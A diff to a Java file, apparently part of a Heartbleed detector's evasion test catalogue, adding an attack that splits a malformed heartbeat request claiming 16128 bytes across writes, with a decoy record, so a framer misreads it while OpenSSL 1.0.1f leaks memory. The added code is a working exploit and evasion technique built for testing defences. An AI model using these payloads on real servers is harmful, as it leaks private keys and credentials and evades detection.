@@ -17,6 +17,8 @@ import static io.heartguard.evasion.AttackBytes.honestMessage;
 import static io.heartguard.evasion.AttackBytes.record;
 import static io.heartguard.evasion.AttackBytes.sslv2ClientHello;
 
+import io.heartguard.wire.Bytes;
+import io.heartguard.wire.heartbeat.HeartbeatMessage;
 import io.heartguard.wire.record.ProtocolVersion;
 import java.io.IOException;
 import java.net.InetSocketAddress;
@@ -96,6 +98,24 @@ record Attack(String name, String does, byte[] opening, List<byte[]> pieces, Dur
             + " rest, written next, is itself a well-formed heartbeat record",
         concat(sslv2ClientHello(ProtocolVersion.TLS1_2), Arrays.copyOf(outer, 8)),
         List.of(Arrays.copyOfRange(outer, 8, outer.length)), SPLIT_GAP, OnRealOpenSsl.LEAKS));
+    // The same, with a decoy that runs past the attack record's end. 1.0.1f reads: the attack 18 0303 000b |
+    // 01 3f00 (claims 16128) | 18 0302 3f13 01 3f00, then a well-formed heartbeat response of 16144 bytes, which it
+    // ignores (no heartbeat of its own is pending). A framer that starts at the second write reads one well-formed
+    // request 18 0302 3f13 | 01 3f00 | 16128 bytes of payload, 16 of padding, whose payload_length is exactly the
+    // leaking answer's.
+    int claim = 0x3f00;
+    byte[] decoyStart = concat(new byte[] {HEARTBEAT, 3, 2, (byte) ((3 + claim + 16) >>> 8), (byte) (3 + claim + 16)},
+        heartbleedMessage(claim));
+    byte[] attackRecord = record(HEARTBEAT, concat(heartbleedMessage(claim), decoyStart));
+    byte[] ignoredResponse = record(HEARTBEAT, HeartbeatMessage.response(Bytes.repeat('R', claim - 8),
+        Bytes.repeat(0, 16)).toByteArray());
+    all.add(new Attack("sslv2_hello_then_decoy_heartbeat_across_records",
+        "SSLv2-compatible ClientHello plus the first 8 bytes of an 11-byte heartbeat record claiming 16128; next write:"
+            + " its rest, then a heartbeat response 1.0.1f ignores. Framed from that write: one well-formed request"
+            + " declaring 16128",
+        concat(sslv2ClientHello(ProtocolVersion.TLS1_2), Arrays.copyOf(attackRecord, 8)),
+        List.of(concat(Arrays.copyOfRange(attackRecord, 8, attackRecord.length), ignoredResponse)), SPLIT_GAP,
+        OnRealOpenSsl.LEAKS));
 
     // Records under 3 bytes: tls1_process_heartbeat reads type and payload_length without checking the record's
     // length, so payload_length comes from what the previous record left in the read buffer: here an honest
